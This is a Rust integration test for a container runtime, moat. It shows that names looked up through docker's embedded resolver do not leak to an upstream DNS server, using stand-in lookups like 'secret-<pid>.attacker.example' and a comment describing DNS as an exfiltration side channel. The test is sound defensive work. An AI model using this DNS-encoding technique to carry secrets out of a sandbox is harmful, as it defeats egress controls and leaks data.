//! DNS as a side channel on a docker user-defined network (threat T18,
//! issue 18): the engine's embedded resolver at `127.0.0.11` forwards any
//! name it does not know to the network's upstream resolvers, so a name a
//! workload makes up (`<secret>.attacker.example`) leaves the container
//! even when its allowlist is empty. moat refuses DNS to every address
//! its allowlist does not name exactly, loopback included.
//!
//! The upstream is the test's own DNS responder on the gateway address
//! of the docker network the test creates (given to docker with
//! `--dns`; docker 20.10 forwards to it from the container's namespace,
//! across the test network's bridge). It answers every A query with a
//! TEST-NET address nobody connects to and logs each name it is asked.
//!
//! The runtime is a docker runtime registered with `--policy` naming
//! [`POLICY`] (the test writes that file): `make test` registers it as
//! `moat-test-egress-dns`. Another registration (a work tree's own) is
//! picked with `MOAT_EGRESS_DNS_RUNTIME`:
//!
//! ```sh
//! MOAT_RUNTIME_NAME=moat-test-egress-dns MOAT_RUNTIME_ARGS='["--policy","/run/moat-egress-dns-test.toml"]' bash hack/docker-register.sh
//! cargo test --release -p moat-integration --test egress_dns -- --test-threads=1
//! ```

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

const IMAGE: &str = "moat-busybox:latest";
/// The policy the registered runtime reads (`--policy` in its runtimeArgs).
const POLICY: &str = "/run/moat-egress-dns-test.toml";
/// The test's docker network (outside 10.231/16, the egress tests' veths).
const SUBNET: &str = "10.232.18.0/24";
const GATEWAY: &str = "10.232.18.1";
/// What the upstream answers (TEST-NET-1; never connected to).
const ANSWER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 53);

fn runtime() -> String {
    std::env::var("MOAT_EGRESS_DNS_RUNTIME")
        .ok()
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "moat-test-egress-dns".to_string())
}

fn docker(args: &[&str]) -> (bool, String) {
    match Command::new("docker")
        .args(args)
        .stdin(Stdio::null())
        .output()
    {
        Ok(o) => (
            o.status.success(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            ),
        ),
        Err(e) => (false, format!("cannot run docker: {e}")),
    }
}

/// The query name of a DNS message (uncompressed labels), lowercased.
fn qname(msg: &[u8]) -> Option<String> {
    let mut i = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*msg.get(i)?);
        i += 1;
        if len == 0 {
            break;
        }
        if len & 0xc0 != 0 {
            return None;
        }
        labels.push(String::from_utf8_lossy(msg.get(i..i + len)?).to_lowercase());
        i += len;
    }
    Some(labels.join("."))
}

/// A reply to a one-question query: A/IN gets [`ANSWER`] (TTL 60),
/// anything else an empty NOERROR.
fn reply(q: &[u8]) -> Option<Vec<u8>> {
    if q.len() < 12 || q[2] & 0x80 != 0 {
        return None;
    }
    let mut i = 12;
    while *q.get(i)? != 0 {
        i += 1 + usize::from(q[i]);
    }
    let end = i + 5;
    let typ = u16::from_be_bytes([*q.get(i + 1)?, *q.get(i + 2)?]);
    let is_a = typ == 1;
    let mut r = q.get(..2)?.to_vec();
    r.extend_from_slice(&[
        0x80 | (q[2] & 0x79),
        0x80,
        0,
        1,
        0,
        u8::from(is_a),
        0,
        0,
        0,
        0,
    ]);
    r.extend_from_slice(q.get(12..end)?);
    if is_a {
        r.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        r.extend_from_slice(&ANSWER.octets());
    }
    Some(r)
}

/// The upstream: logs every name it is asked; stopped on drop.
struct Upstream {
    log: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    handle: Option<JoinHandle<()>>,
}

impl Upstream {
    fn start(addr: Ipv4Addr) -> Upstream {
        let sock = UdpSocket::bind(SocketAddr::new(addr.into(), 53))
            .unwrap_or_else(|e| panic!("bind {addr}:53: {e}"));
        sock.set_read_timeout(Some(Duration::from_millis(20)))
            .unwrap();
        let log = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (l, s) = (log.clone(), stop.clone());
        let handle = std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while !s.load(Ordering::SeqCst) {
                if let Ok((n, peer)) = sock.recv_from(&mut buf) {
                    if let Some(name) = qname(&buf[..n]) {
                        l.lock().unwrap().push(name);
                    }
                    if let Some(r) = reply(&buf[..n]) {
                        let _ = sock.send_to(&r, peer);
                    }
                }
            }
        });
        Upstream {
            log,
            stop,
            handle: Some(handle),
        }
    }

    fn asked(&self, name: &str) -> bool {
        self.log.lock().unwrap().iter().any(|n| n == name)
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

/// A docker network of the test's; removed (with any container left on
/// it) on drop, also on failure.
struct Network(String);

impl Drop for Network {
    fn drop(&mut self) {
        let (_, ids) = docker(&["ps", "-aq", "--filter", &format!("network={}", self.0)]);
        for id in ids.split_whitespace() {
            let _ = docker(&["rm", "-f", id]);
        }
        let _ = docker(&["network", "rm", &self.0]);
    }
}

/// `nslookup NAME` through the container's resolv.conf (127.0.0.11).
fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> String {
    let script = format!("timeout 10 nslookup {name} 2>&1; echo NS=$?");
    let upstream = upstream.to_string();
    let (_, out) = docker(&[
        "run",
        "--rm",
        "--runtime",
        runtime,
        "--network",
        network,
        "--dns",
        &upstream,
        IMAGE,
        "sh",
        "-c",
        &script,
    ]);
    out
}

/// T18 (DNS side channel, docker): a made-up name looked up through the
/// embedded resolver never reaches the upstream under moat. The same
/// lookup under runc does (the channel the test closes is real), and
/// nothing of the test is left afterwards.
#[test]
fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
    let rt = runtime();
    let me = std::process::id();
    let (ok, info) = docker(&["info", "--format", "{{json .Runtimes}}"]);
    let registered = ok
        && serde_json::from_str::<serde_json::Value>(&info)
            .ok()
            .and_then(|v| v.get(&rt)?.get("runtimeArgs")?.as_array().cloned())
            .is_some_and(|args| {
                args.windows(2)
                    .any(|w| w[0] == "--policy" && w[1] == POLICY)
            });
    assert!(
        registered,
        "runtime {rt} is not registered with --policy {POLICY} (see this file's header): {info}"
    );
    std::fs::write(POLICY, format!("[egress]\nallow = [\"{SUBNET}\"]\n")).unwrap();
    let net = Network(format!("moat-egdns-{me}"));
    let (ok, out) = docker(&[
        "network",
        "create",
        "--subnet",
        SUBNET,
        "--gateway",
        GATEWAY,
        &net.0,
    ]);
    assert!(ok, "docker network create: {out}");
    let (ok, gw) = docker(&[
        "network",
        "inspect",
        "--format",
        "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
        &net.0,
    ]);
    assert!(ok, "docker network inspect: {gw}");
    let gw: Ipv4Addr = gw
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("no IPv4 gateway: {gw:?}"));
    let upstream = Upstream::start(gw);

    let control = format!("control-{me}.attacker.example");
    let out = lookup("runc", &net.0, gw, &control);
    assert!(
        upstream.asked(&control),
        "under runc the upstream never saw {control}: the test cannot show the channel\n{out}"
    );

    let secret = format!("secret-{me}.attacker.example");
    let out = lookup(&rt, &net.0, gw, &secret);
    assert!(out.contains("NS="), "the container did not run:\n{out}");
    assert!(
        !out.contains("NS=0"),
        "the lookup succeeded under {rt}:\n{out}"
    );
    assert!(!out.contains(&ANSWER.to_string()), "{out}");
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        !upstream.asked(&secret),
        "the made-up name reached the upstream under {rt}:\n{out}"
    );

    drop(upstream);
    drop(net);
    let _ = std::fs::remove_file(POLICY);
    let (_, left) = docker(&["ps", "-aq", "--filter", &format!("network=moat-egdns-{me}")]);
    assert!(left.trim().is_empty(), "containers left: {left}");
    let (ok, _) = docker(&["network", "inspect", &format!("moat-egdns-{me}")]);
    assert!(!ok, "the test's docker network is still there");
}
